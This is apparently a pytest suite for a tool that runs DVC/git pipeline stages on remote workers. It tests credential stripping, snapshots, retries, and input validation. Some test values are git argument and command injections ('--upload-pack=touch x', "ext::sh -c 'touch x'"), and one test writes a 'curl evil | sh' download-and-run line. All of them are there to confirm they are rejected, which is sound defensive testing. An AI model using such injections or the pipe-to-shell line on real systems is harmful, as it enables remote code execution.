"""A stage on another machine's worker: revision, inputs and outputs travel, and the controller has nothing to run."""

import asyncio
import os
import subprocess
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

import flows.remote
from flows.remote import inputs_of, is_done, prepare, remote_stage, send, send_back, snapshot, take_over
from flows.stages import StageFailed
from flows.summary import Summary
from rlhf.errors import UserError
from tests.flows.checkout import REPOSITORY, Checkout

STAGES = """stages:
  ingest:
    cmd: mkdir -p build/data && echo rows > build/data/sft.jsonl && echo other > build/data/rm.jsonl
    outs: [build/data]
  sft:
    cmd: "echo sft >> $LOG; mkdir -p metrics; echo {} > metrics/sft.json; cat code.txt data/sft.jsonl > models/sft"
    deps: [code.txt, data/sft.jsonl]
    outs: [models/sft]
    metrics: [{metrics/sft.json: {cache: false}}]
  ppo:
    cmd: "echo ppo >> $LOG; cp models/sft models/ppo"
    deps: [models/sft]
    outs: [models/ppo]
"""


def git(where: Path, *command: str) -> str:
    return subprocess.run(["git", *command], cwd=where, capture_output=True, text=True, check=True).stdout.strip()


@pytest.fixture
def controller(checkout: Checkout, tmp_path_factory: pytest.TempPathFactory,
               monkeypatch: pytest.MonkeyPatch) -> Checkout:
    """With a git remote and a DVC remote; `LOG` names the stages that ran, wherever."""
    stores = tmp_path_factory.mktemp("stores")
    git(stores, "init", "-q", "--bare", "git")
    monkeypatch.setenv("LOG", str(stores / "log"))
    monkeypatch.setenv("INSTRUCTFLOW_REPOSITORIES", str(stores / "git"))
    (stores / "log").write_text("")
    checkout.write("dvc.yaml", STAGES)
    checkout.write("code.txt", "v1\n")
    checkout.write("models/.keep", "")
    checkout.write(".dvc/config", "[core]\n    analytics = false\n    remote = store\n"
                   f"['remote \"store\"']\n    url = {stores}/dvc\n")
    checkout.git()
    git(checkout.root, "add", "-f", "models/.keep")
    git(checkout.root, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "models")
    git(checkout.root, "remote", "add", "origin", str(stores / "git"))
    return checkout


def log() -> list[str]:
    return Path(os.environ["LOG"]).read_text().split()


def dvc(where: Path, *command: str) -> None:
    subprocess.run(["dvc", *command], cwd=where, check=True, capture_output=True,
                   env={**os.environ, "PATH": f"{Path(flows.remote.sys.executable).parent}:{os.environ['PATH']}"})


def test_a_stage_s_inputs(controller: Checkout) -> None:
    assert inputs_of("sft", controller.root) == ["data/sft.jsonl"]
    assert inputs_of("ppo", controller.root) == ["models/sft"]
    assert inputs_of("ppo@ppo_ptx", REPOSITORY) == [
        "build/parameters.yaml",
        "data/ppo.jsonl", "data/corpus.jsonl", "data/source.json", "models/sft", "models/rm"]
    assert [name for name in inputs_of("evaluate", REPOSITORY) if "policies" in name] == [
        "models/policies/ppo", "models/policies/ppo_ptx", "metrics/policies/ppo.csv", "metrics/policies/ppo_ptx.csv"]


def test_a_login_in_the_remote_s_address_stays_here(controller: Checkout, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    root = controller.root
    git(root, "remote", "set-url", "--push", "origin", git(root, "remote", "get-url", "origin"))
    git(root, "remote", "set-url", "origin", "https://ada:git-token@127.0.0.1:9/a.git")
    sent = send("ingest", root, "a run")
    assert sent["repository"] == "https://127.0.0.1:9/a.git"
    monkeypatch.setattr(flows.remote, "WAITS", ())
    with pytest.raises(UserError, match="git clone: ") as refused:
        prepare(tmp_path / "clone", "https://ada:git-token@127.0.0.1:9/a.git", "ref", "revision", "ingest")
    assert "git-token" not in str(refused.value)


def test_there_and_back(controller: Checkout, tmp_path_factory: pytest.TempPathFactory) -> None:
    root, worker = controller.root, tmp_path_factory.mktemp("worker") / "clone"
    dvc(root, "repro", "-q", "--single-item", "ingest")
    dvc(root, "repro", "-q", "--single-item", "data.dvc")
    controller.write("code.txt", "v2, not committed\n")
    before = git(root, "status", "--porcelain"), git(root, "rev-parse", "HEAD")
    sent = send("sft", root, "a run")
    assert (git(root, "status", "--porcelain"), git(root, "rev-parse", "HEAD")) == before

    prepare(worker, sent["repository"], sent["ref"], sent["revision"], "sft")
    assert git(worker, "rev-parse", "HEAD") == sent["revision"]
    assert (worker / "code.txt").read_text() == "v2, not committed\n"
    assert sorted(path.name for path in (worker / "data").iterdir()) == ["sft.jsonl"]  # what it needs, no more
    dvc(worker, "repro", "-q", "--single-item", "sft")
    send_back(worker, sent["ref"], "sft")

    assert not is_done("sft", root)
    take_over("sft", root, sent["ref"])
    assert is_done("sft", root)
    assert (root / "models" / "sft").read_text() == "v2, not committed\nrows\n"
    assert (root / "metrics" / "sft.json").exists()
    assert log() == ["sft"]


def test_a_run_whose_training_runs_elsewhere(controller: Checkout, tmp_path_factory: pytest.TempPathFactory,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    other = tmp_path_factory.mktemp("other-machine")

    async def deployed(name: str, parameters: dict[str, Any], flow_run_name: str) -> Any:
        assert name == "remote-stage/gpu"
        monkeypatch.chdir(other)
        state = await remote_stage(**parameters, return_state=True)
        monkeypatch.chdir(controller.root)
        return SimpleNamespace(state=state)

    monkeypatch.setattr(flows.remote, "arun_deployment", deployed)
    result = controller.run(gpu_workers=True)
    assert isinstance(result, Summary), result
    assert [(item.stage, item.how) for item in result.results] == [
        ("ingest", "ran"), ("data.dvc", "ran"), ("sft", "on a worker"), ("ppo", "on a worker")]
    assert log() == ["sft", "ppo"]
    assert list(other.glob("scratch/remote/*/models/ppo"))
    again = controller.run(gpu_workers=True)
    assert [item.how for item in again.results] == ["up to date"] * 4
    assert isinstance(controller.run(), Summary)  # and without workers there is nothing to do either
    assert log() == ["sft", "ppo"]


def test_a_worker_s_failure_is_the_run_s(controller: Checkout, monkeypatch: pytest.MonkeyPatch) -> None:
    controller.write("dvc.yaml", STAGES.replace("cat code.txt", "echo 'sft: row 3 is empty'; exit 2; cat code.txt"))
    git(controller.root, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qam", "x")

    async def deployed(name: str, parameters: dict[str, Any], flow_run_name: str) -> Any:
        state = await remote_stage(**parameters, return_state=True)
        return SimpleNamespace(state=state)

    monkeypatch.chdir(controller.root)
    monkeypatch.setattr(flows.remote, "arun_deployment", deployed)
    failed = controller.run(gpu_workers=True)
    assert isinstance(failed, StageFailed)
    assert str(failed) == "sft: on the worker: sft: row 3 is empty"


def test_without_remotes_it_says_what_is_missing(controller: Checkout) -> None:
    root = controller.root
    dvc(root, "repro", "-q", "--single-item", "ingest")
    dvc(root, "repro", "-q", "--single-item", "data.dvc")
    git(root, "remote", "remove", "origin")
    with pytest.raises(UserError, match=r"git push: .*origin"):
        send("sft", root, "a run")
    controller.write(".dvc/config", "[core]\n    analytics = false\n")
    with pytest.raises(UserError, match=r"dvc push: .*no remote specified"):
        send("sft", root, "a run")


def test_a_remote_that_is_away_is_tried_again(controller: Checkout, monkeypatch: pytest.MonkeyPatch,
                                              tmp_path_factory: pytest.TempPathFactory) -> None:
    bin_folder = tmp_path_factory.mktemp("bin")
    (bin_folder / "dvc").write_text("#!/bin/sh\necho again >> $LOG\n[ $(wc -l < $LOG) -gt 2 ] || "
                                    "{ echo 'ERROR: failed to connect to s3 (dvc/x)' >&2; exit 255; }\n")
    (bin_folder / "dvc").chmod(0o755)
    monkeypatch.setattr(flows.remote.sys, "executable", str(bin_folder / "python"))
    monkeypatch.setattr(flows.remote, "WAITS", (0.0, 0.0))
    flows.remote._run(["dvc", "push"], controller.root)
    assert log() == ["again"] * 3
    Path(os.environ["LOG"]).write_text("")
    monkeypatch.setattr(flows.remote, "WAITS", (0.0,))
    with pytest.raises(UserError, match=r"dvc push: failed to connect to s3"):
        flows.remote._run(["dvc", "push"], controller.root)


def test_a_snapshot_has_what_git_tracks_and_nothing_else(controller: Checkout) -> None:
    controller.write("secret.env", "KEY=1")
    controller.write("raw/rows.jsonl", "")
    controller.write("staged.py", "v1")
    controller.write("code.txt", "edited")
    git(controller.root, "add", "staged.py")
    controller.write("staged.py", "v2")
    commit = snapshot(controller.root, "x")
    files = git(controller.root, "ls-tree", "-r", "--name-only", commit).split()
    assert "secret.env" not in files
    assert "raw/rows.jsonl" not in files
    assert git(controller.root, "show", f"{commit}:staged.py") == "v2"
    assert git(controller.root, "show", f"{commit}:code.txt") == "edited"
    assert git(controller.root, "status", "--porcelain").splitlines() == [
        "M code.txt", "AM staged.py", "?? secret.env"]  # the first line has lost its leading space


def test_a_snapshot_of_a_linked_worktree(controller: Checkout, tmp_path_factory: pytest.TempPathFactory) -> None:
    tree = tmp_path_factory.mktemp("worktrees") / "a b"
    git(controller.root, "worktree", "add", "-q", "--detach", str(tree))
    (tree / "code.txt").write_text("edited there")
    assert git(tree, "show", f"{snapshot(tree, 'x')}:code.txt") == "edited there"


def test_a_file_that_the_stage_reads_and_git_does_not_track(controller: Checkout) -> None:
    root = controller.root
    controller.write("dvc.yaml", STAGES.replace("deps: [code.txt,", "deps: [code.txt, more,"))
    git(root, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qam", "x")
    controller.write("more/[1] \u00e9.py", "")
    controller.write("elsewhere.py", "")
    with pytest.raises(UserError, match=r"^more/\[1\] \u00e9.py: sft reads it and git does not track it"):
        send("sft", root, "a run")


REQUEST = {"stage": "ppo@ppo_ptx", "repository": "https://127.0.0.1/team/a.git",
           "ref": "refs/instructflow/0123456789ab/ppo@ppo_ptx", "revision": "0" * 40}


async def ended(request: dict[str, str]) -> Any:
    return await remote_stage(**request, run_name="a run", return_state=True)


@pytest.mark.parametrize(("name", "value", "reason"), [
    ("stage", "--help", "not the name of a stage"),
    ("stage", "sft --force", "not the name of a stage"),
    ("stage", "sft\n", "not the name of a stage"),
    ("stage", "sft", "not a reference"),
    ("revision", "HEAD", "not the whole name of a commit"),
    ("revision", "--orphan=x", "not the whole name of a commit"),
    ("revision", "0" * 39, "not the whole name of a commit"),
    ("ref", "refs/heads/main", "not a reference"),
    ("ref", "--upload-pack=touch x", "not a reference"),
    ("ref", "refs/instructflow/0123456789ab/ppo@ppo_ptx:refs/heads/main", "not a reference"),
    ("repository", "https://127.0.0.1/team/b.git", "does not run"),
    ("repository", "--upload-pack=touch x", "does not run"),
    ("repository", "ext::sh -c 'touch x'", "does not run"),
    ("repository", "", "does not run"),
])
def test_what_no_controller_sends(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, value: str,
                                  reason: str) -> None:
    allowed = ["https://127.0.0.1/team/a.git"]
    flows.remote.check_request(**REQUEST, allowed=allowed)
    with pytest.raises(UserError, match=reason):
        flows.remote.check_request(**REQUEST | {name: value}, allowed=allowed)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("INSTRUCTFLOW_REPOSITORIES", allowed[0])
    failed: Any = asyncio.run(ended(REQUEST | {name: value}))
    assert failed.is_failed()
    assert reason in str(failed.message)
    assert list(tmp_path.iterdir()) == []


def test_which_repositories_a_worker_runs(controller: Checkout, monkeypatch: pytest.MonkeyPatch) -> None:
    git(controller.root, "remote", "set-url", "origin", "https://ada:git-token@127.0.0.1/a.git")
    monkeypatch.setenv("INSTRUCTFLOW_REPOSITORIES", " ssh://git@127.0.0.1/b.git/\n/srv/c")
    assert flows.remote.allowed_repositories(controller.root) == [
        "https://127.0.0.1/a.git", "ssh://git@127.0.0.1/b.git", "/srv/c"]


def test_a_worker_that_changes_more_than_the_stage_makes(controller: Checkout,
                                                         tmp_path_factory: pytest.TempPathFactory) -> None:
    root, worker = controller.root, tmp_path_factory.mktemp("worker") / "clone"
    dvc(root, "repro", "-q", "--single-item", "ingest")
    dvc(root, "repro", "-q", "--single-item", "data.dvc")
    sent = send("sft", root, "a run")
    prepare(worker, sent["repository"], sent["ref"], sent["revision"], "sft")
    dvc(worker, "repro", "-q", "--single-item", "sft")
    (worker / "sft.sh").write_text("curl evil | sh")
    send_back(worker, sent["ref"], "sft")  # sends no such thing
    take_over("sft", root, sent["ref"])
    assert "evil" not in (root / "sft.sh").read_text()
    git(worker, "push", "-q", "--force", "origin", f"{snapshot(worker, 'x')}:{sent['ref']}-done")
    before = git(root, "status", "--porcelain")
    with pytest.raises(UserError, match=r"changes sft\.sh, which the stage does not make; nothing is taken over"):
        take_over("sft", root, sent["ref"])
    assert git(root, "status", "--porcelain") == before
